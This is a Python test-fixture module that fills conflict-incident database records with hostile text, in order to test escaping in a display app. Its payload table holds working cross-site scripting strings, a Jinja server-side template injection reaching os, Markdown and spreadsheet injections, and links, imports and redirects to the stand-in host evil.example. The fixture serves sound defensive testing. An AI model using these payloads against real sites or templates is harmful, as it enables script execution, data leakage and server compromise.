"""Records whose every text is an attack: one incident for each payload, with all that belongs to it.

A payload that runs in a browser calls `canary()`, which the tests put into the page; one that runs on the server makes
the folder named by SEAMLINE_TEST_CANARY; one that loads something asks evil.example for it.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Mapping
from typing import Final

from geo.records import (
    Actor,
    ActorMention,
    AnyRecord,
    Claim,
    Containment,
    Event,
    FrontSegment,
    Incident,
    Names,
    Paragraph,
    Passage,
    Place,
    PlaceMention,
    Position,
    Source,
    Statement,
)
from geo.vocabulary import (
    ActorRole,
    Bucket,
    CollectionId,
    EventKind,
    GeoPrecision,
    Grade,
    Group,
    Outcome,
    PlaceKind,
    PlaceMethod,
    PlaceRole,
    Reason,
    Side,
    SourceKind,
    SubEventType,
    TimePrecision,
)

CANARY: Final = "SEAMLINE_TEST_CANARY"

# As it would bite, were it written as it is into: a page, an attribute or script string with that quote, a template.
# The latest are for Markdown: the list of the newest incidents is made of labels that Streamlit reads so.
PAYLOADS: Final[Mapping[str, tuple[str, str]]] = {
    "script": ("page", "<script>canary()</script>"),
    "script after the end of a script": ("page", "</script><script>canary()</script>"),
    "script after a comment": ("page", "--><script>canary()</script><!--"),
    "script after character data": ("page", "]]><script>canary()</script>"),
    "image": ("page", "<img src=x onerror=canary()>"),
    "drawing": ("page", "<svg onload=canary()>"),
    "drawing in a style": ("page", "<svg></p><style><a id='</style><img src=x onerror=canary()>'></svg>"),
    "details": ("page", "<details open ontoggle=canary()><summary>x</summary></details>"),
    "frame": ("page", '<iframe srcdoc="<script>parent.canary()</script>"></iframe>'),
    "link": ("", '<a href="javascript:canary()">press</a>'),
    "style": ("outside", '<style>@import "https://evil.example/style.css";</style>'),
    "base and form": ("", '<base href="https://evil.example/"><form action=//evil.example><button>go</button></form>'),
    "refresh": ("", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    "attribute, double quotes": ("attribute", '" onmouseover="canary()" autofocus onfocus="canary()" x="'),
    "attribute, single quotes": ("", "' onmouseover='canary()' autofocus onfocus='canary()' x='"),
    "string, single quotes": ("'", "'-canary()-'"),
    "string, double quotes": ('"', '"+canary()+"'),
    "string, backslash": ("", '\\";canary();//'),
    "string, backticks": ("`", "`+canary()+`"),
    "string, placeholder": ("`", "${canary()}"),
    "template, loop": ("template", "{% for n in (1,2) %}{{ n }}{% endfor %}"),
    "template, unfinished": ("", "{% if %} {{ {% raw %}"),
    "template, note": ("template", "a {# gone #} b"),
    "template, sum": ("template", "{{ 7*7 }}"),
    "template, Python": (
        "server",
        "{{ cycler.__init__.__globals__.os.mkdir(cycler.__init__.__globals__.os.environ." + CANARY + ") }}",
    ),
    "format": ("", "{0.__class__} {title} {} %s %(x)d {!r}"),
    "spreadsheet": ("", '=HYPERLINK("https://evil.example/d","x")'),
    "line separators": ("", "a\u2028canary()\u2029b"),
    "Arabic": ("", "\u200fهجوم\u200f على (قرية) 12 <b>كفري</b> گوندی"),
    "control characters": ("", "a\x01b\x07c\x08d\x1b[31me\x7ff\x85g"),
    "zero width": ("", "pay\u200bload\u200d\ufeff\u2060 a\u0301\u0301\u0301\u0301"),
    "long word": ("", "W" * 600),
    "entities": ("", "&lt;script&gt;canary()&lt;/script&gt; &amp; &#60; &#x3c; &copy"),
    "right to left": ("", "abc\u202egnp.exe\u202c \u2067x\u2069 \u202dy\u202c z"),
    "markdown image": ("", "![x](https://evil.example/pixel.png)"),
    "markdown link": ("", "[press](javascript:canary()) [open](https://evil.example/a)"),
    "markdown address": ("", "see https://evil.example/b www.evil.example <https://evil.example/c> x@evil.example"),
    "markdown marks": ("", "**bold** _slanted_ ~~gone~~ `code` # 1. > | - + *"),
    "markdown blocks": ("", "one\n\n# two\n\n    three\n\n- four\n\n| a | b |\n|---|---|\n\nfive\n===\n\n---\n\nsix"),
    "directives": ("", ":red[red] :blue-background[b] :material/delete: :smile: :streamlit: :small[s]"),
    "formula": ("", "$\\href{javascript:canary()}{x}$ $$\\frac{1}{2}$$ \\(x\\) \\[y\\]"),
    "arrows": ("", "a -> b <- c -- d >= e <= f ~= g ... (c)"),
}
NAMES: Final = tuple(PAYLOADS)
TEXTS: Final = tuple(text for _, text in PAYLOADS.values())

_COLUMNS, _WEST, _EAST, _NORTH, _STEP_SOUTH = 7, 43.0, 0.44, 36.05, 0.36
_DAY = dt.date(2021, 1, 1)
# What escaping drops or puts in, because a reader cannot see it or is misled by it.
_DROPPED: Final = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2060\u2066-\u2069]")


def plain(text: str) -> str:
    """What a reader sees of a text: without control characters, all blanks alike."""
    return " ".join(_DROPPED.sub("", text).split())


def hostile_records() -> tuple[AnyRecord, ...]:
    """For each payload one record of every kind at least, all its texts being the payload."""
    return tuple(record for number, text in enumerate(TEXTS) for record in _records(number, text))


def _records(number: int, text: str) -> tuple[AnyRecord, ...]:
    key = f"p{number:02}"
    row, column = divmod(number, _COLUMNS)
    latitude, longitude = _NORTH - row * _STEP_SOUTH, _WEST + column * _EAST
    day = _DAY + dt.timedelta(days=30 * number)
    return (
        _place(key, text, latitude=latitude, longitude=longitude),
        Actor(id=key, names=_names(text), side=Side.ISIS, acled_name=text, acled_type=2, note=text),
        _source(key, text, day=day if number % 2 else None),
        *_statements(key, text),
        _incident(key, text, day=day, latitude=latitude, longitude=longitude),
        Claim(
            id=key,
            source_id=key,
            statement_id=f"{key}-said",
            incident_ids=(key,),
            group=Group.PESHMERGA,
            outcome=Outcome.KILLED,
            low=1,
            high=2,
            attributed_to=text,
            note=text,
        ),
        _event(key, text, day=day, latitude=latitude, longitude=longitude),
        _segment(key, text, latitude=latitude, longitude=longitude + _EAST / 2),
    )


def _names(text: str) -> Names:
    return Names(en=text, ar=text, ckb=text)


def _place(key: str, text: str, *, latitude: float, longitude: float) -> Place:
    return Place(
        id=key,
        names=_names(text),
        variants=(text,),
        kind=PlaceKind.VILLAGE,
        latitude=latitude,
        longitude=longitude,
        error_km=1,
        within=() if key == "p00" else (Containment(place_id="p00", source=text),),
        source=text,
        note=text,
    )


def _source(key: str, text: str, *, day: dt.date | None) -> Source:
    return Source(
        id=key,
        outlet=text,
        outlet_id=key,
        via=text,
        kind=SourceKind.REPORT,
        collection=CollectionId.ARTICLES,
        title=text,
        url=f"https://source.example/{key}?q={text}#{text}",
        reference=text,
        published=day,
        published_basis=text,
        digest=(Paragraph(number=1, text=f"{text} {text} {text}"),),
        note=text,
    )


def _statements(key: str, text: str) -> tuple[Statement, ...]:
    start = len(text) + 1
    return (
        Statement(
            id=f"{key}-said",
            source_id=key,
            passage=Passage(paragraph=1, start=start, end=start + len(text)),
            text=text,
            bucket=Bucket.INCIDENT,
            incident_ids=(key,),
            event_ids=(key,),
            segment_ids=(key,),
            note=text,
        ),
        Statement(
            id=f"{key}-unplaced", source_id=key, text=text, bucket=Bucket.SUPPORT, incident_ids=(key,), note=text
        ),
        Statement(
            id=f"{key}-context", source_id=key, text=text, bucket=Bucket.CONTEXT, reason=next(iter(Reason)), note=text
        ),
    )


def _scene(key: str, text: str, *, latitude: float, longitude: float) -> PlaceMention:
    return PlaceMention(
        place_id=key,
        name=text,
        words=f"{text}.",
        latitude=latitude,
        longitude=longitude,
        error_km=1,
        geo_precision=GeoPrecision.EXACT,
        method=PlaceMethod.GAZETTEER,
        note=text,
    )


def _incident(key: str, text: str, *, day: dt.date, latitude: float, longitude: float) -> Incident:
    nowhere = PlaceMention(
        role=PlaceRole.CONTAINING,
        name=text,
        words=text,
        geo_precision=GeoPrecision.AREA,
        method=PlaceMethod.NOT_FOUND,
        note=text,
    )
    return Incident(
        id=key,
        title=text,
        summary=text,
        sub_event_type=SubEventType.ARMED_CLASH,
        date_start=day,
        date_end=day,
        time_precision=TimePrecision.DAY,
        date_basis=text,
        time_of_day=text,
        places=(_scene(key, text, latitude=latitude, longitude=longitude), nowhere),
        actors=(ActorMention(actor_id=key, role=ActorRole.ATTACKER, note=text),),
        grade=Grade.SINGLE_SOURCE,
        collection=CollectionId.ARTICLES,
        note=text,
    )


def _event(key: str, text: str, *, day: dt.date, latitude: float, longitude: float) -> Event:
    return Event(
        id=key,
        kind=EventKind.AGREEMENT,
        title=text,
        summary=text,
        places=(_scene(key, text, latitude=latitude, longitude=longitude),),
        parties=(key,),
        date_start=day,
        date_end=day,
        time_precision=TimePrecision.DAY,
        date_basis=text,
        collection=CollectionId.ARTICLES,
        note=text,
    )


def _segment(key: str, text: str, *, latitude: float, longitude: float) -> FrontSegment:
    ends = (latitude - 0.05, latitude + 0.05)
    return FrontSegment(
        id=key,
        name=text,
        label=text,
        axis=text,
        line=tuple(Position(latitude=end, longitude=longitude) for end in ends),
        sides=(Side.KRG, Side.FEDERAL),
        valid_from=_DAY,
        validity_basis=text,
        uncertainty_km=1,
        basis=text,
    )
